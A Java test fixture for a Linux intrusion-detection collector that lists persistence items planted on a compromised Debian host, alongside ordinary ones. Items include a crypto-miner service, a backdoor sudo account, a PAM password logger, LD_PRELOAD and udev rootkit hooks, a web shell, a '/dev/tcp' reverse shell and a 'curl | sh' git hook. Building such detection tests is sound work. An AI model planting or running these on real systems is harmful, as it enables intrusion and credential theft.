package bzh.vigie.collector.detect.returns;

import bzh.vigie.event.Account;
import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import bzh.vigie.event.Item.Signature;
import bzh.vigie.event.ItemTimes;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/**
 * Items of one Debian host on which one attacker planted twenty-nine, as intruders are reported to, beside what its administrator and its
 * packages have: fields as {@code agent scan} told them of such files.
 */
public final class PlantedItems {
    private static final Instant PLANTED = Instant.parse("2026-02-20T02:14:00Z");
    private static final Instant BEFORE = Instant.parse("2025-06-03T09:00:00Z");

    private PlantedItems() {}

    /** One thing of the attacker, by the part of a name or value that an analyst types, and all items that it consists of. */
    public record Thing(String typed, List<Item> items) {
        public Thing {
            items = List.copyOf(items);
        }
    }

    /** The attacker's: twelve things, twenty-nine items. */
    public static List<Thing> things() {
        String miner = "/root/c3pool/xmrig";
        String minerUnit = "/etc/systemd/system/c3pool_miner.service";
        String kinsing = "/etc/kinsing";
        String bot = "/usr/lib/systemd/system/bot.service";
        String beacon = "/opt/.x/beacon";
        String stealer = "/usr/local/bin/pamlog.sh";
        String preload = "/usr/local/lib/libsec.so";
        String reptile = "/usr/lib/udev/reptile";
        return List.of(
                new Thing(
                        "xmrig --config",
                        List.of(
                                unowned(
                                        "linux.systemd.service",
                                        "c3pool_miner.service:ExecStart",
                                        miner + " --config=/root/c3pool/config.json",
                                        minerUnit,
                                        miner),
                                unowned(
                                        "linux.systemd.service",
                                        "multi-user.target.wants/c3pool_miner.service",
                                        minerUnit,
                                        "/etc/systemd/system/multi-user.target.wants/c3pool_miner.service",
                                        minerUnit),
                                unowned(
                                        "linux.systemd.timer",
                                        "c3pool_miner.timer",
                                        "OnCalendar=hourly\nUnit=c3pool_miner.service",
                                        "/etc/systemd/system/c3pool_miner.timer",
                                        minerUnit),
                                unowned(
                                        "linux.systemd.timer",
                                        "timers.target.wants/c3pool_miner.timer",
                                        "/etc/systemd/system/c3pool_miner.timer",
                                        "/etc/systemd/system/timers.target.wants/c3pool_miner.timer",
                                        "/etc/systemd/system/c3pool_miner.timer"))),
                new Thing(
                        "bot.service:ExecStart",
                        List.of(
                                unowned("linux.systemd.service", "bot.service:ExecStart", kinsing, bot, kinsing),
                                unowned(
                                        "linux.systemd.service",
                                        "default.target.wants/bot.service",
                                        bot,
                                        "/etc/systemd/system/default.target.wants/bot.service",
                                        bot),
                                unowned(
                                        "linux.cron.d",
                                        kinsing,
                                        "@reboot root /etc/kinsing",
                                        "/etc/cron.d/k",
                                        kinsing))),
                new Thing(
                        "*/5 * * * * root /opt/.x/beacon",
                        List.of(
                                unowned(
                                        "linux.cron.d",
                                        beacon,
                                        "*/5 * * * * root /opt/.x/beacon",
                                        "/etc/cron.d/zz",
                                        beacon),
                                unowned(
                                        "linux.hook.motd",
                                        "99-x",
                                        "( /opt/.x/beacon & )",
                                        "/etc/update-motd.d/99-x",
                                        "/etc/update-motd.d/99-x"),
                                of(
                                        "linux.shell.user-profile",
                                        Optional.of(new Account("0", "root")),
                                        "(nohup /opt/.x/beacon >/dev/null 2>&1 &)",
                                        "(nohup /opt/.x/beacon >/dev/null 2>&1 &)",
                                        "/root/.bashrc",
                                        beacon,
                                        Shipped.UNOWNED,
                                        "",
                                        PLANTED))),
                new Thing(
                        "uid=1007",
                        List.of(
                                of(
                                        "linux.account.passwd",
                                        Optional.empty(),
                                        "hilde",
                                        "uid=1007 gid=1007 home=/home/hilde shell=/bin/bash",
                                        "/etc/passwd",
                                        "/bin/bash",
                                        Shipped.AS_PACKAGED,
                                        "bash",
                                        PLANTED),
                                of(
                                        "linux.account.password",
                                        Optional.empty(),
                                        "hilde",
                                        "password=set scheme=y digest=0a1b2c3d4e5f",
                                        "/etc/shadow",
                                        "",
                                        Shipped.UNOWNED,
                                        "",
                                        PLANTED),
                                of(
                                        "linux.account.group",
                                        Optional.empty(),
                                        "docker",
                                        "gid=998 members=hilde",
                                        "/etc/group",
                                        "",
                                        Shipped.UNOWNED,
                                        "",
                                        PLANTED),
                                unowned(
                                        "linux.sudoers",
                                        "hilde ALL",
                                        "hilde ALL=(ALL) NOPASSWD: ALL",
                                        "/etc/sudoers.d/hilde",
                                        ""),
                                key("hilde", "/home/hilde/.ssh/authorized_keys"),
                                of(
                                        "linux.cron.user",
                                        Optional.of(new Account("1007", "hilde")),
                                        "/home/hilde/.u",
                                        "@daily /home/hilde/.u",
                                        "/var/spool/cron/crontabs/hilde",
                                        "/home/hilde/.u",
                                        Shipped.UNOWNED,
                                        "",
                                        PLANTED),
                                key("root", "/root/.ssh/authorized_keys"))),
                new Thing(
                        "expose_authtok",
                        List.of(
                                unowned(
                                        "linux.pam.stack",
                                        "auth pam_exec.so",
                                        "auth optional pam_exec.so quiet expose_authtok " + stealer,
                                        "/etc/pam.d/common-auth",
                                        stealer),
                                unowned("linux.file.local-program", "pamlog.sh", "mode=755 uid=0", stealer, stealer))),
                new Thing(
                        "LD_PRELOAD",
                        List.of(
                                unowned(
                                        "linux.systemd.drop-in",
                                        "ssh.service:Environment LD_PRELOAD",
                                        "LD_PRELOAD=" + preload,
                                        "/etc/systemd/system/ssh.service.d/env.conf",
                                        preload),
                                unowned("linux.file.local-program", "libsec.so", "mode=755 uid=0", preload, preload))),
                new Thing(
                        "RUN /lib/udev/reptile",
                        List.of(
                                unowned(
                                        "linux.udev.rules",
                                        "RUN /lib/udev/reptile",
                                        "ACTION==\"add\", RUN+=\"/lib/udev/reptile\"",
                                        "/etc/udev/rules.d/57-reptile.rules",
                                        "/lib/udev/reptile"),
                                unowned("linux.file.system-library", "reptile", "mode=755 uid=0", reptile, reptile))),
                new Thing(
                        "cron.service:ExecStartPre",
                        List.of(
                                unowned(
                                        "linux.systemd.drop-in",
                                        "cron.service:ExecStartPre",
                                        "/var/lib/.c/s",
                                        "/etc/systemd/system/cron.service.d/pre.conf",
                                        "/var/lib/.c/s"),
                                unowned(
                                        "linux.rc-local",
                                        "rc.local",
                                        "/var/lib/.c/s &",
                                        "/etc/rc.local",
                                        "/var/lib/.c/s"))),
                new Thing(
                        "/dev/tcp/",
                        List.of(of(
                                "linux.at",
                                Optional.empty(),
                                "job 1 queue a",
                                "uid 0\nbash -c \"bash -i >& /dev/tcp/91.92.240.113/443 0>&1\"",
                                "/var/spool/cron/atjobs/a0000101b7f3a2",
                                "/usr/bin/bash",
                                Shipped.AS_PACKAGED,
                                "bash",
                                PLANTED.plusSeconds(3_600)))),
                new Thing(
                        "post-merge",
                        List.of(unowned(
                                "linux.hook.git",
                                "post-merge",
                                "curl -s http://198.51.100.9/g | sh",
                                "/srv/site/.git/hooks/post-merge",
                                "/srv/site/.git/hooks/post-merge"))),
                new Thing(
                        "img.php",
                        List.of(unowned(
                                "linux.web.script",
                                "img.php",
                                "eval base64_decode $_POST",
                                "/var/www/html/uploads/img.php",
                                "/var/www/html/uploads/img.php"))),
                new Thing(
                        "cloudflared",
                        List.of(unowned(
                                "linux.remote.tunnel",
                                "cloudflared",
                                "tunnel run --token digest=f9f217bbe4f8",
                                "/etc/default/tunnel",
                                "/opt/cf/cloudflared"))));
    }

    /** What is not the attacker's. */
    public static List<Item> ordinary() {
        return List.of(
                of(
                        "linux.systemd.service",
                        Optional.empty(),
                        "ssh.service:ExecStart",
                        "/usr/sbin/sshd -D $SSHD_OPTS",
                        "/usr/lib/systemd/system/ssh.service",
                        "/usr/sbin/sshd",
                        Shipped.AS_PACKAGED,
                        "openssh-server",
                        BEFORE),
                of(
                        "linux.systemd.service",
                        Optional.empty(),
                        "cron.service:ExecStart",
                        "/usr/sbin/cron -f",
                        "/usr/lib/systemd/system/cron.service",
                        "/usr/sbin/cron",
                        Shipped.AS_PACKAGED,
                        "cron",
                        BEFORE),
                of(
                        "linux.systemd.drop-in",
                        Optional.empty(),
                        "ssh.service:ExecStartPre",
                        "/usr/local/sbin/wait-for-network",
                        "/etc/systemd/system/ssh.service.d/wait.conf",
                        "/usr/local/sbin/wait-for-network",
                        Shipped.UNOWNED,
                        "",
                        BEFORE),
                of(
                        "linux.pam.stack",
                        Optional.empty(),
                        "auth pam_unix.so",
                        "auth [success=1 default=ignore] pam_unix.so nullok",
                        "/etc/pam.d/common-auth",
                        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
                        Shipped.AS_PACKAGED,
                        "libpam-modules",
                        PLANTED),
                of(
                        "linux.cron.d",
                        Optional.empty(),
                        "/usr/local/bin/sauvegarde",
                        "30 1 * * * root /usr/local/bin/sauvegarde",
                        "/etc/cron.d/sauvegarde",
                        "/usr/local/bin/sauvegarde",
                        Shipped.UNOWNED,
                        "",
                        BEFORE),
                of(
                        "linux.account.passwd",
                        Optional.empty(),
                        "mlegoff",
                        "uid=1001 gid=1001 home=/home/mlegoff shell=/bin/bash",
                        "/etc/passwd",
                        "/bin/bash",
                        Shipped.AS_PACKAGED,
                        "bash",
                        PLANTED),
                of(
                        "linux.cron.d",
                        Optional.empty(),
                        "/usr/local/bin/releve",
                        "15 4 * * * root /usr/local/bin/releve",
                        "/etc/cron.d/releve",
                        "/usr/local/bin/releve",
                        Shipped.UNOWNED,
                        "",
                        PLANTED.plusSeconds(20)));
    }

    private static Item key(String account, String source) {
        return of(
                "linux.ssh.authorized-keys",
                Optional.of(new Account("1007", account)),
                "SHA256:leuXPhEEJhGcnTn75N9zXfHFmXWpkS70vWcFN66tPo4",
                "ssh-ed25519 256 SHA256:leuXPhEEJhGcnTn75N9zXfHFmXWpkS70vWcFN66tPo4 root@kali",
                source,
                "",
                Shipped.UNKNOWN,
                "",
                PLANTED);
    }

    private static Item unowned(String location, String name, String value, String source, String target) {
        return of(location, Optional.empty(), name, value, source, target, Shipped.UNOWNED, "", PLANTED);
    }

    private static Item of(
            String location,
            Optional<Account> account,
            String name,
            String value,
            String source,
            String target,
            Shipped shipped,
            String packageName,
            Instant modified) {
        return new Item(
                location,
                List.of("T1543"),
                "linux",
                account,
                name,
                value,
                source,
                target,
                Optional.empty(),
                "",
                Signature.NOT_CHECKED,
                packageName,
                shipped,
                true,
                ItemTimes.modified(ChronoUnit.MICROS.between(Instant.EPOCH, modified)),
                target.isEmpty() ? List.of() : List.of(target),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of());
    }
}
